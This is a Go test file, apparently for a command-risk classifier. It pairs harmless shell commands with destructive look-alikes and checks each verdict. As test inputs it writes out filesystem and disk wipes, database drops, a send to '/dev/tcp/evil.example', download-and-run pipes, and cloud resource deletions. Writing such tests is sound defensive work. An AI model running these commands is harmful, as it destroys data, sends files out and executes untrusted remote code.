package shell_test

import (
	"strings"
	"testing"

	"github.com/gatehouse-dev/gatehouse"
	"github.com/gatehouse-dev/gatehouse/internal/shell"
)

const (
	R = gatehouse.ClassRead
	W = gatehouse.ClassWrite
	D = gatehouse.ClassDestructive
	I = gatehouse.ClassIrreversible
)

// classCase is a real-world command and what analysis must say about it:
// its class, and optionally a substring of one of its reasons and one of
// its targets.
type classCase struct {
	cmd    string
	class  gatehouse.Class
	reason string
	target string
}

// Dangerous commands sit next to their harmless look-alikes.
var classCases = []classCase{
	// rm: the workspace versus the system.
	{"rm file.txt", D, "rm: deletes files", "file.txt"},
	{"rm -f *.log", D, "rm: deletes files", "*.log"},
	{"rm -rf ./build", D, "rm -r", "./build"},
	{"rm -rf node_modules dist", D, "rm -r", "dist"},
	{"rm -rf /tmp/myapp-cache", D, "rm -r", "/tmp/myapp-cache"},
	{"rm -rf ~/projects/old", D, "rm -r", "~/projects/old"},
	{"rm -rf /home/ann/tmp", D, "rm -r", "/home/ann/tmp"},
	{"rm -rf /", I, "whole filesystem", "/"},
	{"rm -rf /*", I, "whole filesystem", "/*"},
	{"rm -rf //", I, "whole filesystem", ""},
	{"rm -rf ~", I, "home directory", "~"},
	{"rm -rf ~/", I, "home directory", "~/"},
	{"rm -rf $HOME", I, "home directory", "$HOME"},
	{`rm -rf "${HOME}"/*`, I, "home directory", ""},
	{"rm -rf .", I, "working directory", "."},
	{"rm -rf *", I, "working directory", "*"},
	{"rm -rf ..", I, "parent", ".."},
	{"rm -rf ../..", I, "parent", ""},
	{"rm -rf /etc", I, "system directory /etc", "/etc"},
	{"rm -rf /usr/", I, "system directory /usr", ""},
	{"rm -r /var", I, "system directory /var", ""},
	{"rm -rf /boot", I, "system directory /boot", ""},
	{"rm -rf /home/*", I, "system directory /home", ""},
	{"rm -f /etc/*", I, "system directory /etc", ""},
	{"rm -rf --no-preserve-root /", I, "no-preserve-root", ""},
	{"rm --recursive --force /", I, "whole filesystem", ""},
	{`rm -rf "$BUILD_DIR/"*`, D, "if BUILD_DIR is empty", ""},
	{"rm -r $TARGET", D, "computed at run time", "$TARGET"},
	{"yes | rm -ri *", I, "working directory", ""},
	{"/usr/bin/rm -rf /", I, "whole filesystem", ""},
	{`\rm -rf /`, I, "whole filesystem", ""},
	{`r""m -rf /`, I, "whole filesystem", ""},
	{"rmdir emptydir", W, "removes empty directories", ""},
	{"unlink stale.sock", D, "deletes a file", ""},

	// Wrappers.
	{"sudo rm -rf /", I, "whole filesystem", ""},
	{"sudo -u root -E rm -rf /var", I, "system directory /var", ""},
	{"sudo -l", R, "runs no command", ""},
	{"doas rm -rf /", I, "whole filesystem", ""},
	{"timeout 10 rm -rf /", I, "whole filesystem", ""},
	{"timeout -s KILL 5m rm -rf ~", I, "home directory", ""},
	{"nice -n 10 ionice -c3 rm -rf /", I, "whole filesystem", ""},
	{"env -i FOO=bar rm -rf /", I, "whole filesystem", ""},
	{"env", R, "prints the environment", ""},
	{"X=1 Y=2 env", R, "prints the environment", ""},
	{"nohup rm -rf / &", I, "whole filesystem", ""},
	{"stdbuf -oL sudo rm -rf /", I, "whole filesystem", ""},
	{"time rm -rf /", I, "whole filesystem", ""},
	{"command rm -rf /", I, "whole filesystem", ""},
	{"command -v rm", R, "looks a command up", ""},
	{"exec rm -rf /", I, "whole filesystem", ""},
	{"builtin eval 'rm -rf /'", I, "whole filesystem", ""},
	{"setsid chroot /mnt rm -rf /", I, "whole filesystem", "/mnt"},
	{"watch -n 5 'rm -rf /'", I, "whole filesystem", ""},
	{"watch -n 2 kubectl get pods", R, "", ""},
	{"flock /tmp/lock -c 'rm -rf /'", I, "whole filesystem", "/tmp/lock"},
	{"flock -n /tmp/lock make build", W, "make", ""},
	{"su -c 'rm -rf /' root", I, "whole filesystem", "user root"},
	{"sudo apt-get update", W, "runs with another user's privileges (sudo)", ""},
	{"busybox rm -rf /", I, "whole filesystem", ""},

	// Shell strings and eval.
	{`bash -c "rm -rf /"`, I, "whole filesystem", ""},
	{"sh -c 'sudo rm -rf ~/'", I, "home directory", ""},
	{`zsh -c "rm -rf /boot"`, I, "/boot", ""},
	{"dash -c 'rm -rf /home'", I, "/home", ""},
	{"bash -lc 'rm -rf /'", I, "whole filesystem", ""},
	{"bash -euxo pipefail -c 'rm -rf /'", I, "whole filesystem", ""},
	{"bash -c 'ls -la'", R, "", ""},
	{`bash -c "rm -rf '"`, I, "cannot parse", ""},
	{`eval "rm -rf /"`, I, "whole filesystem", ""},
	{`eval "$USER_CMD"`, D, "computed at run time", ""},
	{"echo 'rm -rf /' | sh", I, "whole filesystem", ""},
	{"echo 'ls -la' | sh", R, "", ""},
	{"printf 'rm -rf /\\n' | bash", I, "whole filesystem", ""},
	{"bash <<'EOF'\nrm -rf /\nEOF", I, "whole filesystem", ""},
	{"sh <<< 'rm -rf ~'", I, "home directory", ""},
	{"bash script.sh", W, "runs the script script.sh", "script.sh"},
	{"cat script.sh | bash", W, "script.sh", ""},
	{"source ./env.sh", W, "runs the script ./env.sh", ""},
	{"trap 'rm -rf /' EXIT", I, "whole filesystem", ""},
	{"f() { rm -rf /; }; f", I, "whole filesystem", ""},
	{"deploy() { echo hi; }; deploy", R, "shell function", ""},

	// Everywhere in the syntax tree.
	{"echo $(rm -rf ~)", I, "home directory", ""},
	{"echo `rm -rf /`", I, "whole filesystem", ""},
	{"ls $(bash -c 'rm -rf /')", I, "whole filesystem", ""},
	{"cat <(rm -rf /)", I, "whole filesystem", ""},
	{"X=$(rm -rf /)", I, "whole filesystem", ""},
	{`echo "${X:-$(rm -rf /)}"`, I, "whole filesystem", ""},
	{"echo $(( $(rm -rf /) + 1 ))", I, "whole filesystem", ""},
	{"[[ -n $(rm -rf /) ]]", I, "whole filesystem", ""},
	{"while true; do rm -rf /; done", I, "whole filesystem", ""},
	{"until false; do sleep 1; done", R, "", ""},
	{"for f in *.log; do wc -l \"$f\"; done", R, "", ""},
	{"for f in $(find / -delete); do :; done", I, "find -delete", ""},
	{"if [ -f x ]; then cat x; else rm -rf /; fi", I, "whole filesystem", ""},
	{"case $x in a) rm -rf /;; esac", I, "whole filesystem", ""},
	{"(cd / && rm -rf *)", I, "working directory", ""},
	{"{ rm -rf ~; }", I, "home directory", ""},
	{"true && echo ok || echo fail", R, "", ""},
	{"! grep -q x file", R, "", ""},
	{"ls; pwd; whoami", R, "", ""},
	{"# just a comment", R, "nothing runs", ""},
	{"export PATH=/tmp/evil:$PATH; ls", W, "changes which programs", ""},
	{"X=1 ls", R, "", ""},
	{"LD_PRELOAD=/tmp/x.so ls", W, "LD_PRELOAD", ""},
	{"env PATH=/tmp/evil ls", W, "PATH", ""},
	{"$CMD args", D, "program name is computed at run time", ""},
	{`"$(echo rm)" -rf /`, D, "program name is computed at run time", ""},
	{"git $VERB --force", D, "subcommand is computed at run time", ""},

	// Redirections.
	{"ls > out.txt", W, "overwrites out.txt (redirect >)", "out.txt"},
	{"ls >> out.txt", W, "appends to out.txt (redirect >>)", "out.txt"},
	{"ls > /dev/null 2>&1", R, "", ""},
	{"make &> build.log", W, "overwrites build.log (redirect &>)", "build.log"},
	{"ls >| out.txt", W, "overwrites out.txt (redirect >|)", ""},
	{": > app.log", W, "overwrites app.log", "app.log"},
	{"> app.log", W, "overwrites app.log", "app.log"},
	{"cat /dev/urandom > /dev/sda", I, "device /dev/sda", "/dev/sda"},
	{"echo x > /dev/tcp/evil.example/80", I, "sends data to evil.example", "evil.example"},
	{"echo 'export X=1' >> ~/.bashrc", W, "login file", ""},
	{"{ echo a; echo b; } > both.txt", W, "overwrites both.txt", ""},
	{"echo hi | tee notes.txt", W, "overwrites notes.txt (tee)", "notes.txt"},
	{"echo hi | tee -a notes.txt", W, "appends to notes.txt (tee -a)", ""},
	{"echo hi | tee /dev/null", R, "", ""},
	{"echo 127.0.0.1 evil | sudo tee /etc/hosts", W, "system or login file", "/etc/hosts"},
	{"cat <<EOF\nhello\nEOF", R, "", ""},

	// find and xargs.
	{"find . -name '*.go'", R, "find: reads only", ""},
	{"find . -name '*.o' -delete", D, "find -delete", "."},
	{"find . -name '*.pyc' -exec rm {} \\;", D, "rm: deletes files", ""},
	{"find / -delete", I, "whole filesystem", ""},
	{"find / -name '*' -exec rm -rf {} +", I, "find -exec", ""},
	{"find . -type f -exec sh -c 'rm -rf /' \\;", I, "whole filesystem", ""},
	{"find /tmp -mtime +7 | xargs rm -f", D, "rm: deletes files", ""},
	{"xargs rm", D, "rm: deletes files", ""},
	{"xargs sh -c 'rm -rf /'", I, "whole filesystem", ""},
	{"ls | xargs", R, "", ""},
	{"find . -type f | wc -l", R, "", ""},

	// Disks.
	{"dd if=/dev/zero of=/dev/sda bs=1M", I, "device /dev/sda", "/dev/sda"},
	{"dd if=disk.img of=/dev/disk2", I, "/dev/disk2", ""},
	{"dd if=/dev/zero of=disk.img bs=1M count=100", D, "overwrites disk.img", "disk.img"},
	{"dd if=/dev/sda bs=512 count=1 | xxd", R, "", ""},
	{"mkfs.ext4 /dev/sdb1", I, "formats", "/dev/sdb1"},
	{"mkfs -t xfs /dev/nvme1n1", I, "formats", "/dev/nvme1n1"},
	{"wipefs -a /dev/sdb", I, "erases", "/dev/sdb"},
	{"wipefs /dev/sdb", R, "lists", ""},
	{"fdisk -l", R, "lists", ""},
	{"fdisk /dev/sda", I, "partition table", "/dev/sda"},
	{"parted /dev/sda print", R, "prints", ""},
	{"parted /dev/sda rm 1", I, "partition table", ""},
	{"shred -u secrets.txt", I, "beyond recovery", "secrets.txt"},
	{"truncate -s 0 app.log", D, "truncate", "app.log"},
	{"cp /dev/zero /dev/sda", I, "device /dev/sda", ""},

	// Permissions.
	{"chmod +x script.sh", W, "chmod: changes the permissions", "script.sh"},
	{"chmod -R 755 ./public", D, "chmod -R", "./public"},
	{"chown -R app:app ./data", D, "chown -R", ""},
	{"chmod -R 777 /", I, "whole filesystem", ""},
	{"chmod 777 /", I, "whole filesystem", ""},
	{"chown -R nobody /etc", I, "/etc", ""},
	{"chmod 4755 ./tool", W, "setuid", ""},

	// Copies, moves, archives, editors.
	{"cp a.txt b.txt", W, "cp: copies files", "b.txt"},
	{"mv old.txt new.txt", W, "mv: moves", "new.txt"},
	{"mv /etc /etc.bak", D, "system directory /etc", ""},
	{"mkdir -p build && touch build/.keep", W, "", ""},
	{"ln -sf target link", W, "", ""},
	{"tar -xzf release.tgz", W, "tar -x", ""},
	{"tar -czf backup.tgz src", W, "archive", "backup.tgz"},
	{"tar tzf archive.tgz", R, "lists", ""},
	{"unzip -l bundle.zip", R, "", ""},
	{"unzip bundle.zip -d out", W, "extracts", "out"},
	{"unzip bundle.zip", W, "extracts", ""},
	{"gzip -d -c logs.gz | grep ERROR", R, "", ""},
	{"sed -i 's/foo/bar/' config.yml", W, "sed -i", "config.yml"},
	{"sed 's/foo/bar/' config.yml", R, "", ""},
	{"awk '{print $1}' access.log", R, "", ""},
	{"awk '{system(\"rm -rf /\")}' x", W, "runs commands", ""},
	{"sort -o sorted.txt data.txt", W, "-o", ""},
	{"jq .items data.json", R, "", ""},

	// git: harmless, history-rewriting and remote-destroying.
	{"git status", R, "", ""},
	{"git log --oneline -10", R, "", ""},
	{"git diff HEAD~1", R, "", ""},
	{"git show HEAD:go.mod", R, "", ""},
	{"git branch", R, "lists branches", ""},
	{"git branch -a --merged", R, "", ""},
	{"git fetch origin", R, "", ""},
	{"git -C /srv/app status", R, "", ""},
	{"git add . && git commit -m 'wip'", W, "records a commit", ""},
	{"git checkout -b feature", W, "switches branches", ""},
	{"git switch main", W, "", ""},
	{"git merge feature", W, "", ""},
	{"git rebase main", W, "", ""},
	{"git pull --rebase", W, "", ""},
	{"git stash", W, "", ""},
	{"git stash list", R, "", ""},
	{"git push", W, "publishes commits", ""},
	{"git push origin main", W, "publishes commits", "origin"},
	{"git push -u origin feature", W, "publishes commits", ""},
	{"git push --force origin main", I, "overwrites the remote's history", "origin"},
	{"git push -f", I, "--force", ""},
	{"git push --force-with-lease", I, "--force", ""},
	{"git push origin +main", I, "--force", ""},
	{"git push origin --delete feature", I, "deletes branches", ""},
	{"git push origin :feature", I, "deletes branches", ""},
	{"git push --tags", I, "publishes tags", ""},
	{"git push origin v1.2.3", I, "publishes tags", ""},
	{"git push --dry-run --force", R, "changes nothing", ""},
	{"git reset HEAD~1", W, "", ""},
	{"git reset --hard HEAD~1", D, "git reset --hard", ""},
	{"git clean -n", R, "", ""},
	{"git clean -fd", D, "untracked files", ""},
	{"git clean -fdx", D, "ignored files", ""},
	{"git checkout -- .", D, "discards uncommitted changes", ""},
	{"git checkout .", D, "discards uncommitted changes", ""},
	{"git restore .", D, "discards uncommitted changes", ""},
	{"git restore --staged app.go", W, "unstages", ""},
	{"git branch -d merged-feature", W, "deletes merged branches", ""},
	{"git branch -D feature", D, "git branch -D", "feature"},
	{"git stash drop", D, "deletes a stash", ""},
	{"git reflog expire --expire=now --all", D, "reflog", ""},
	{"git gc --prune=now", D, "git gc --prune=now", ""},
	{"git gc", W, "", ""},
	{"git filter-branch --tree-filter 'rm -f secrets' HEAD", D, "rewrites the history", ""},
	{"git tag -d v1.0", D, "deletes tags", ""},
	{"git tag v1.0", W, "creates a tag", ""},
	{"git config user.name Ann", W, "", ""},
	{"git config --get user.name", R, "", ""},
	{"git config alias.x '!rm -rf /'", W, "sets a command git will run", ""},

	// GitHub.
	{"gh pr list", R, "", ""},
	{"gh pr view 12", R, "", ""},
	{"gh pr create --fill", W, "posts on GitHub", ""},
	{"gh pr merge 42 --squash", I, "merges a pull request", ""},
	{"gh repo delete org/repo --yes", I, "deletes a repository", ""},
	{"gh release create v1.0.0 dist/*", I, "publishes a release", ""},
	{"gh api repos/o/r/pulls", R, "", ""},
	{"gh api -X DELETE repos/o/r/git/refs/heads/x", I, "DELETE", ""},

	// SQL: DROP TABLE written versus run.
	{"echo DROP TABLE x", R, "", ""},
	{"grep -i 'drop table' migrations/*.sql", R, "", ""},
	{"psql -c 'DROP TABLE x'", I, "DROP TABLE x", "table x"},
	{"psql -c 'SELECT * FROM users LIMIT 10'", R, "", ""},
	{`psql -c "SELECT 'DROP TABLE x'"`, R, "", ""},
	{"psql -c $'-- DROP TABLE x\\nSELECT 1'", R, "", ""},
	{"psql -c '/* DROP TABLE x */ SELECT 1'", R, "", ""},
	{"psql -c 'SELECT 1; DROP TABLE t'", I, "DROP TABLE t", "table t"},
	{"psql -h db.internal -d app -c 'DROP DATABASE app'", I, "DROP DATABASE app", "db.internal"},
	{"psql -c 'TRUNCATE audit_log'", I, "TRUNCATE audit_log", "table audit_log"},
	{"psql -c 'DELETE FROM sessions'", D, "DELETE without WHERE", "table sessions"},
	{"psql -c 'DELETE FROM t WHERE 1=1'", D, "DELETE without WHERE", ""},
	{"psql -c 'DELETE FROM sessions WHERE expires < now()'", W, "WHERE", "table sessions"},
	{"psql -c 'UPDATE users SET active = false WHERE id = 3'", W, "", "table users"},
	{"psql -c 'UPDATE users SET admin = true'", D, "UPDATE without WHERE", "table users"},
	{"psql -c 'ALTER TABLE users ADD COLUMN age int'", W, "ALTER TABLE users", ""},
	{"psql -c 'ALTER TABLE users DROP COLUMN email'", D, "DROP removes a column", ""},
	{"psql -c 'INSERT INTO t VALUES (1)'", W, "INSERT", ""},
	{"psql -c 'EXPLAIN ANALYZE DELETE FROM t'", D, "DELETE without WHERE", ""},
	{"psql -c 'EXPLAIN DELETE FROM t'", R, "", ""},
	{"psql -c 'WITH x AS (SELECT 1) DELETE FROM t'", D, "DELETE without WHERE", ""},
	{"psql -c $'CREATE FUNCTION f() RETURNS int AS $$ DROP TABLE t $$ LANGUAGE sql'", W, "CREATE", ""},
	{"psql -l", R, "", ""},
	{"psql -f migrate.sql", W, "migrate.sql", ""},
	{"psql <<EOF\nDROP TABLE users;\nEOF", I, "DROP TABLE users", ""},
	{"echo 'DROP TABLE t' | psql", I, "DROP TABLE t", ""},
	{"psql < dump.sql", W, "dump.sql", ""},
	{"mysql -e 'SHOW TABLES' app", R, "", "database app"},
	{"mysql -e 'TRUNCATE TABLE logs'", I, "TRUNCATE", ""},
	{"mysql -u root -pSecret -e 'UPDATE users SET admin=1' app", D, "UPDATE without WHERE", ""},
	{"mysql app <<< 'DROP TABLE t'", I, "DROP TABLE t", ""},
	{"mysql -e '/*!50000 DROP TABLE t */'", I, "DROP TABLE t", ""},
	{"mariadb -e 'SELECT 1'", R, "", ""},
	{"sqlite3 db.sqlite 'SELECT count(*) FROM t'", R, "", "db.sqlite"},
	{"sqlite3 db.sqlite 'DELETE FROM t'", D, "DELETE without WHERE", "table t"},
	{"sqlite3 db.sqlite 'DELETE FROM t WHERE id=1'", W, "WHERE", "table t"},
	{"sqlite3 app.db 'DROP TABLE x; SELECT 1'", I, "DROP TABLE x", ""},
	{"sqlite3 app.db .tables", R, "", ""},
	{"sqlite3 -readonly app.db 'DELETE FROM t'", R, "read-only", ""},
	{"clickhouse-client --query 'DROP TABLE events'", I, "DROP TABLE events", ""},
	{"clickhouse client -q 'SELECT count() FROM events'", R, "", ""},
	{"cockroach sql -e 'DROP DATABASE bank'", I, "DROP DATABASE bank", ""},
	{"dropdb app_production", I, "deletes a database", "database app_production"},
	{"pg_dump app > app.sql", W, "overwrites app.sql", ""},
	{"redis-cli FLUSHALL", I, "FLUSHALL", ""},
	{"redis-cli GET session:1", R, "", ""},
	{"mongosh --eval 'db.dropDatabase()'", I, "drops", ""},

	// Kubernetes, Helm, Terraform.
	{"kubectl get pods -n prod", R, "", ""},
	{"kubectl describe pod web-1", R, "", ""},
	{"kubectl logs -f deploy/api", R, "", ""},
	{"kubectl apply -f deploy.yaml", W, "changes cluster resources", ""},
	{"kubectl scale deploy/api --replicas=3", W, "", ""},
	{"kubectl rollout restart deploy/api", W, "", ""},
	{"kubectl rollout status deploy/api", R, "", ""},
	{"kubectl delete pod web-1", D, "kubectl delete", "pod web-1"},
	{"kubectl drain node-1 --ignore-daemonsets", D, "evicts", ""},
	{"kubectl delete ns prod", I, "deletes it with everything in it", "ns prod"},
	{"kubectl delete namespace staging", I, "namespace", "namespace staging"},
	{"kubectl -n prod delete pods --all", I, "--all", "namespace prod"},
	{"kubectl delete pvc data-db-0", I, "pvc", ""},
	{"kubectl delete pod x --dry-run=client", R, "", ""},
	{"kubectl --context prod-eu apply -f x.yaml", W, "looks like production", ""},
	{"kubectl exec db-0 -- psql -c 'DROP DATABASE app'", I, "DROP DATABASE app", "pod db-0"},
	{"kubectl exec -it web -- ls /app", R, "", ""},
	{"helm list -A", R, "", ""},
	{"helm upgrade --install api ./chart -n prod", W, "", ""},
	{"helm uninstall api", D, "removes a release", ""},
	{"terraform plan", R, "", ""},
	{"terraform plan -destroy", R, "", ""},
	{"terraform fmt -recursive", R, "", ""},
	{"terraform init", W, "", ""},
	{"terraform apply", D, "terraform apply", ""},
	{"terraform apply -auto-approve", D, "-auto-approve", ""},
	{"terraform -chdir=infra apply -auto-approve", D, "-auto-approve", ""},
	{"terraform apply -destroy", I, "destroys", ""},
	{"terraform destroy", I, "destroys", ""},
	{"terraform destroy -auto-approve -target=aws_db_instance.main", I, "destroys", "aws_db_instance.main"},
	{"tofu destroy", I, "destroys", ""},
	{"pulumi up --yes", D, "", ""},

	// Clouds.
	{"aws s3 ls s3://bucket", R, "", ""},
	{"aws ec2 describe-instances", R, "", ""},
	{"aws --profile prod sts get-caller-identity", R, "", ""},
	{"aws s3 cp file.txt s3://bucket/", W, "copies objects", "s3://bucket/"},
	{"aws s3 rm s3://bucket/key", I, "deletes objects", ""},
	{"aws s3 rm s3://bucket --recursive", I, "--recursive", ""},
	{"aws s3 rb s3://bucket --force", I, "deletes a bucket", ""},
	{"aws s3 sync ./site s3://bucket --delete", I, "--delete", ""},
	{"aws ec2 terminate-instances --instance-ids i-0abc123", I, "terminates", "i-0abc123"},
	{"aws rds delete-db-instance --db-instance-identifier prod-db --skip-final-snapshot", I, "deletes", "prod-db"},
	{"aws iam remove-user-from-group --user-name ann --group-name admins", D, "removes", ""},
	{"aws lambda update-function-code --function-name api --zip-file fileb://f.zip", W, "", "api"},
	{"gcloud compute instances list", R, "", ""},
	{"gcloud compute instances delete vm-1 --zone us-east1-b", I, "deletes", "vm-1"},
	{"gcloud sql instances delete prod-sql", I, "deletes", "prod-sql"},
	{"gcloud projects remove-iam-policy-binding p --member user:a", D, "removes", ""},
	{"az vm list", R, "", ""},
	{"az group delete --name rg-prod --yes", I, "deletes", ""},
	{"doctl compute droplet delete web-1", I, "deletes", "web-1"},
	{"doctl compute droplet list", R, "", ""},
	{"heroku apps:destroy --app myapp --confirm myapp", I, "destroys", "app myapp"},
	{"heroku logs --tail -a myapp", R, "", ""},
	{"heroku run rails db:migrate -a myapp", W, "unknown command rails", ""},
	{"gsutil rm -r gs://bucket/data", I, "deletes objects", ""},
	// Messages sent and secrets rotated cannot be taken back.
	{"aws sns publish --topic-arn arn:aws:sns:eu-west-1:1:alerts --message hi", I, "publishes a message", ""},
	{"aws sns list-topics", R, "", ""},
	{"aws ses send-email --from a@x --to b@y --subject s --text t", I, "sends a message", ""},
	{"aws sqs send-message --queue-url q --message-body b", I, "sends a message", ""},
	{"aws ssm send-command --document-name AWS-RunShellScript", W, "runs commands", ""},
	{"aws secretsmanager rotate-secret --secret-id prod/db", I, "rotates a secret", "prod/db"},
	{"aws secretsmanager get-secret-value --secret-id prod/db", R, "", ""},
	{"aws kms rotate-key-on-demand --key-id k1", I, "rotates", "k1"},
	{"gcloud pubsub topics publish alerts --message hi", I, "publishes a message", ""},
	{"gcloud pubsub topics list", R, "", ""},
	{"az keyvault key rotate --vault-name v --name k", I, "rotates", ""},
	{"az cosmosdb keys regenerate --name db --key-kind primary", I, "regenerates keys", ""},
	{"vault kv get secret/app", R, "", ""},
	{"vault kv put secret/app password=x", W, "new version", ""},
	{"vault kv destroy -versions=1 secret/app", I, "for good", ""},
	{"vault kv metadata delete secret/app", I, "every version", ""},
	{"vault write -f database/rotate-root/pg", I, "rotates credentials", "database/rotate-root/pg"},
	{"vault write database/roles/app db_name=pg", W, "writes", "database/roles/app"},
	{"vault read database/creds/app", R, "", ""},
	{"vault operator rotate", I, "rotates", ""},
	{"vault lease revoke -prefix aws/creds", D, "revokes", ""},

	// Containers and services.
	{"docker ps -a", R, "", ""},
	{"docker logs web", R, "", ""},
	{"docker build -t app .", W, "builds an image", ""},
	{"docker run --rm alpine echo hi", W, "runs a container", ""},
	{"docker run -v /:/host alpine", W, "access to the host", ""},
	{"docker exec db psql -U postgres -c 'DROP DATABASE app'", I, "DROP DATABASE app", "container db"},
	{"docker rm -f web", D, "deletes containers", ""},
	{"docker rmi app:old", D, "deletes images", ""},
	{"docker volume rm data", D, "deletes volumes", ""},
	{"docker system prune -f", D, "system prune", ""},
	{"docker system prune -a --volumes -f", I, "every unused image", ""},
	{"docker compose down", D, "removes containers", ""},
	{"docker compose down -v", D, "volumes", ""},
	{"docker compose up -d", W, "", ""},
	{"docker push registry.example.com/app:1.0", I, "publishes an image", ""},
	{"podman image prune", D, "deletes unused images", ""},
	{"systemctl status nginx", R, "", ""},
	{"systemctl is-active nginx", R, "", ""},
	{"systemctl restart nginx", W, "", "nginx"},
	{"systemctl stop nginx", D, "stops", "nginx"},
	{"systemctl disable --now sshd", D, "remote access", "sshd"},
	{"systemctl reboot", I, "restarts the machine", ""},
	{"service nginx stop", D, "stops", "nginx"},
	{"service nginx status", R, "", ""},

	// Processes and power.
	{"kill 1234", D, "SIGTERM", "process 1234"},
	{"kill -9 1234", D, "SIG9", ""},
	{"kill -s KILL 1234", D, "SIGKILL", ""},
	{"kill -0 1234", R, "only checks", ""},
	{"kill -l", R, "", ""},
	{"kill -9 -1", I, "every process", ""},
	{"pkill -f gunicorn", D, "kills processes", ""},
	{"killall node", D, "kills processes", ""},
	{"shutdown -h now", I, "stops or restarts the machine", ""},
	{"shutdown -c", W, "cancels", ""},
	{"reboot", I, "", ""},
	{"sudo poweroff", I, "", ""},
	{"init 0", I, "", ""},

	// Firewalls and cron.
	{"iptables -L -n", R, "", ""},
	{"iptables -F", D, "removes firewall rules", ""},
	{"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", W, "changes firewall rules", ""},
	{"ufw disable", D, "turns the firewall off", ""},
	{"nft list ruleset", R, "", ""},
	{"nft flush ruleset", D, "", ""},
	{"crontab -l", R, "", ""},
	{"crontab -e", W, "", ""},
	{"crontab -r", I, "deletes the whole crontab", ""},
	{"crontab jobs.txt", D, "replaces every scheduled job", ""},

	// HTTP: fetching versus sending versus running.
	{"curl https://example.com", R, "fetches example.com", "example.com"},
	{"curl -sSfL https://api.github.com/repos/x/y", R, "", "api.github.com"},
	{"curl -X GET https://api.example.com/items", R, "", ""},
	{"curl -I https://example.com", R, "", ""},
	{"curl -G -d q=test https://search.example.com", R, "", ""},
	{"curl -o page.html https://example.com", W, "downloads to page.html", "page.html"},
	{"curl -d @payload.json https://api.example.com/v1/items", I, "sends data to api.example.com", "api.example.com"},
	{"curl -X POST https://hooks.slack.com/services/x", I, "POST", "hooks.slack.com"},
	{"curl -XDELETE https://api.example.com/items/1", I, "DELETE", ""},
	{"curl --request=PUT https://api.example.com/items/1", I, "PUT", ""},
	{"curl -F file=@report.pdf https://upload.example.com", I, "-F", ""},
	{"curl -T backup.tgz ftp://ftp.example.com/", I, "-T", "ftp.example.com"},
	{"curl -sS --data-binary @f https://x.example", I, "--data-binary", ""},
	{"curl --json '{\"a\":1}' https://api.example.com", I, "--json", ""},
	{"wget -qO- https://example.com", R, "", "example.com"},
	{"wget https://example.com/file.tgz", W, "downloads", ""},
	{"wget --post-data 'a=1' https://x.example/api", I, "--post-data", ""},
	{"http POST api.example.com/items name=x", I, "POST", "api.example.com"},
	{"http api.example.com/items", R, "", ""},
	{"curl https://get.example.com/install.sh | sh", I, "pipes a download into a shell", "get.example.com"},
	{"curl -fsSL https://x.example/i.sh | sudo bash", I, "pipes a download into a shell", ""},
	{"wget -qO- https://x.example/i.sh | bash -s -- --yes", I, "pipes a download into a shell", ""},
	{"curl -s https://x.example/i.py | python3", I, "pipes a download into a shell", ""},
	{"curl -s https://x.example/i.sh | tee i.sh | sh", I, "pipes a download into a shell", ""},
	{"curl -s https://x.example/data.json | python3 -m json.tool", R, "", ""},
	{"curl -s https://x.example/d.json | jq .", R, "", ""},
	{"bash <(curl -s https://x.example/i.sh)", I, "runs a download", ""},
	{`sh -c "$(curl -fsSL https://x.example/install.sh)"`, I, "runs a download in a shell", ""},
	{`eval "$(curl -s https://x.example)"`, I, "runs a download", ""},
	{"source <(curl -s https://x.example/env)", I, "runs a download", ""},
	{"python3 <(curl -s https://x.example/i.py)", I, "downloaded code", ""},
	{"curl -s https://x.example/dump.sql | psql", I, "pipes a download into a SQL client", ""},

	// ssh, scp, rsync, mail.
	{"ssh prod-db 'psql -c \"DROP TABLE users\"'", I, "DROP TABLE users", "prod-db"},
	{"ssh web1 rm -rf /var", I, "system directory /var", "web1"},
	{"ssh -p 2222 deploy@web1 uptime", R, "", "web1"},
	{"ssh web1", W, "opens a session", "web1"},
	{"ssh -o ProxyCommand='rm -rf ~' host true", I, "home directory", ""},
	{"scp dump.sql user@backup.example.com:/tmp/", I, "sends files to backup.example.com", "backup.example.com"},
	{"scp backup.example.com:/tmp/dump.sql .", W, "copies files", ""},
	{"rsync -a --delete src/ dst/", D, "--delete", ""},
	{"rsync -av ./site/ web1:/var/www/", I, "sends files to web1", ""},
	{"echo hi | mail -s test boss@example.com", I, "sends email", "boss@example.com"},
	{"sendmail -t < message.txt", I, "sends email", ""},
	{"nc -z db 5432", R, "", ""},

	// Packages, builds, tests, publishing.
	{"npm ls", R, "", ""},
	{"npm install", W, "", ""},
	{"npm run build", W, "package script", ""},
	{"npm test", W, "runs tests", ""},
	{"npm publish", I, "publishes", ""},
	{"npm unpublish pkg@1.0.0", I, "removes a published version", ""},
	{"npx create-react-app x", W, "fetched from the registry", ""},
	{"yarn add lodash", W, "", ""},
	{"pnpm publish", I, "publishes", ""},
	{"pip install requests", W, "", ""},
	{"pip list", R, "", ""},
	{"python3 -m pip install -r requirements.txt", W, "", ""},
	{"uv run pytest -q", W, "runs tests", ""},
	{"poetry run python manage.py migrate", W, "manage.py", ""},
	{"cargo build --release", W, "", ""},
	{"cargo publish", I, "publishes", ""},
	{"go build ./...", W, "", ""},
	{"go test ./...", W, "", ""},
	{"go version", R, "", ""},
	{"twine upload dist/*", I, "publishes", ""},
	{"gem push app-1.0.gem", I, "publishes", ""},
	{"apt-get install -y nginx", W, "", "nginx"},
	{"apt-get install -s nginx", R, "simulates", ""},
	{"apt-get purge nginx", D, "configuration", ""},
	{"apt remove --purge nginx", D, "--purge", ""},
	{"brew install jq", W, "", ""},
	{"make", W, "runs recipes", ""},
	{"make -n deploy", R, "", ""},
	{"make deploy ENV=prod", W, "deploys", ""},
	{"./gradlew publish", I, "publishes artifacts", ""},
	{"mvn deploy", I, "publishes artifacts", ""},
	{"pytest -q tests/", W, "runs tests", ""},
	{"python3 manage.py migrate", W, "runs the script manage.py", ""},
	{"python3 -c 'print(1)'", W, "inline python", ""},
	{"python3 --version", R, "", ""},
	{"node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", W, "inline JavaScript", ""},
	{"gofmt -l .", R, "", ""},
	{"gofmt -w .", W, "rewrites", ""},
	{"black --check .", R, "", ""},
	{"prettier --write src", W, "rewrites", ""},

	// Everything else.
	{"ls -la", R, "", ""},
	{"cat README.md", R, "", ""},
	{"grep -rn TODO .", R, "", ""},
	{"ps aux | grep node", R, "", ""},
	{"date", R, "", ""},
	{"date -s '2020-01-01'", W, "system clock", ""},
	{"history", R, "", ""},
	{"hostname", R, "", ""},
